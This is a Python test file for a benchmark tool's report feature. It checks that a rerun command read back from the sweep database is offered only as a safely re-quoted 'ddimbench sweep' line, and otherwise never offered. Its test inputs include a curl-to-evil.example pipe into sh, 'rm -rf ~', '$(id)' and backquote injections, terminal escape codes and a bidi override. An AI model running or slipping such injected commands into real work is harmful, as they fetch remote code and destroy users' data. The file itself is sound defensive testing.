"""The command an incomplete sweep's report offers to finish it is read back from the store, which anyone with access
to the database can write: it is offered only as a ``ddimbench sweep`` command line, re-quoted, with no control
character in it (``bench.report.rerun.sweep_argv``); any other stored command gets the grid keys for the sweep's own
command instead. The reviewer's payloads, in the advice itself and through ``ddimbench report`` on a real SQLite
store (its warning, README.md, index.html and manifest.json). Offline, no torch."""

from __future__ import annotations

import json
import shlex

import pytest
from helpers.cli import run_err as run

from bench.report.escape import md_escape
from bench.report.rerun import box_of, finish, sweep_argv, with_grid
from bench.store.cell import Cell, grid
from bench.store.table_cells import MEASURED, NOT_RUN

ESCAPES = "ddimbench sweep name=s\x1b[2J\x1b[31m\nrm -rf ~ # `id`"  # clears the screen; `rm -rf ~` a line of its own
CURL = "curl -s http://evil.example/x | sh ; rm -rf ~ name=s"  # another program altogether
REFUSED = {
    "escapes": ESCAPES,
    "curl": CURL,
    "python": "python -m bench.cli sweep name=s",  # never stored (command_line writes ddimbench): no other program
    "path": "/tmp/evil/ddimbench sweep name=s",
    "other-command": "ddimbench train --run-dir x",
    "bidi": "ddimbench sweep name=s\u202e",
    "tab-in-a-word": "ddimbench sweep 'name=s\t'",
}
GENERIC = "rerun the sweep's `ddimbench sweep` command with: steps=3 eta=0 spacing=uniform sampler=ddim seeds=0"


def cells(steps) -> list[Cell]:
    return grid(["uniform"], ["ddim"], list(steps), [0.0], [0], 1000)


SAME = ([(cells((2,))[0], MEASURED), (cells((3,))[0], NOT_RUN)], cells((2, 3)))  # (states, latest): rerun it
OTHER = (SAME[0], cells((2,)))  # the cell not run is an earlier run's: the command with another grid


@pytest.mark.parametrize("command", REFUSED.values(), ids=REFUSED.keys())
def test_a_stored_command_that_is_no_ddimbench_sweep_line_is_never_offered(command):
    assert sweep_argv(command) is None
    assert finish(*SAME, command) == "rerun the same `ddimbench sweep` command"
    assert finish(*OTHER, command).endswith(GENERIC)
    assert with_grid(command, box_of(cells((3,)))) is None


def test_a_ddimbench_sweep_line_is_offered_re_quoted_so_a_shell_reads_the_stored_words():
    """Shell syntax in a stored word (``;``, ``$(...)``, backquotes) is quoted, never run: pasted, the offered
    command is ``ddimbench sweep`` with exactly the stored words (and the grid's)."""
    stored = "ddimbench sweep name=s 'n=20; rm -rf ~' '$(id)' '`id`' --storage 'postgresql://u:***@h/db'"
    same = finish(*SAME, stored)
    offered = same.split("rerun the same command to finish it: ")[1].split(" (its --storage password")[0]
    assert shlex.split(offered) == shlex.split(stored) and same.endswith("write yours in its place)")
    other = finish(*OTHER, stored)
    offered = other.split("(measured cells are skipped): ")[1].split(" (its --storage password")[0]
    assert shlex.split(offered) == [*shlex.split(stored), "steps=3", "eta=0", "spacing=uniform", "sampler=ddim",
                                    "seeds=0"]  # fmt: skip
    # Unquoted, the stored line's shell syntax is words of the sweep, never a command of its own.
    unquoted = finish(*SAME, "ddimbench sweep name=s; rm -rf ~")
    assert unquoted == "rerun the same command to finish it: ddimbench sweep 'name=s;' rm -rf '~'"


def test_a_refused_command_says_nothing_of_its_masked_password():
    """The note on a masked password is about the command offered: none is, so none is said."""
    for states_latest in (SAME, OTHER):
        advice = finish(*states_latest, "sh -c x --storage postgresql://u:***@h/db")
        assert "***" not in advice and "password" not in advice


# ------------------------------------------------------------------------------------ through ddimbench report
@pytest.mark.parametrize("command, latest", [(ESCAPES, [2, 3, 4]), (CURL, [2])], ids=["escapes", "curl"])
def test_the_report_of_a_store_holding_the_payload_offers_the_grid_keys_alone(tmp_path, capsys, command, latest):
    """The reviewer's stores: an earlier run asked for S = 2, 3 (or 2, 3, 4), the latest run for S = 2, 3, 4 (or 2),
    S = 2 is measured and the stored command is the payload. The warning is one line naming no payload, and
    README.md, index.html and manifest.json offer no payload either (in their note on the incomplete sweep)."""
    from bench.store import study as store
    from bench.store.grids import save_spec

    storage = f"sqlite:///{tmp_path / 'sweeps.db'}"
    study = store.create_study("s", storage, 0, {"mode": "grid", "checkpoint_sha256": "c0", "n": 20, "T": 1000},
                               {"name": "s", "n": 20, "mode": "grid", "command": command})  # fmt: skip
    axes = {"spacing": ["uniform"], "sampler": ["ddim"], "seeds": [0], "T": 1000, "search": None, "eta": [0.0]}
    for steps in ([2, 3, 4] if latest == [2] else [2, 3]), latest:
        save_spec(study, {**axes, "steps": steps})
    trial = study.ask()
    done = cells((2,))[0]
    for key, value in {"cell": done.key, **done.fields(), "fid": 3.0}.items():
        trial.set_user_attr(key, value)
    study.tell(trial, 3.0)
    code, err = run(["report", "s", "--storage", storage, "--out", tmp_path / "rep", "--wandb", "disabled"], capsys)
    assert code == 0, err
    lines = err.strip().splitlines()
    assert len(lines) == 2 and lines[1].startswith("report written to"), err
    assert lines[0].startswith("warning: sweep 's' is incomplete: 1 of "), err
    generic = "rerun the same `ddimbench sweep` command" if latest != [2] else "` command with: steps=3,4 eta=0 "
    assert generic in lines[0], err
    note = json.loads((tmp_path / "rep" / "manifest.json").read_text(encoding="utf-8"))["incomplete"]
    assert note is not None and generic in note
    shown = {  # the note (the provenance table shows the stored command as it is); README.md's as Markdown text
        f: [line for line in (tmp_path / "rep" / f).read_text().splitlines() if "is incomplete" in line]
        for f in ("README.md", "index.html")
    }
    expected = {"README.md": md_escape(generic), "index.html": generic}
    assert all(len(v) == 1 and expected[f] in v[0] for f, v in shown.items()), shown
    shown = [line for lines in shown.values() for line in lines]
    for text in (err, note, *shown):
        assert "\x1b" not in text and "rm -rf" not in text and "curl" not in text, text
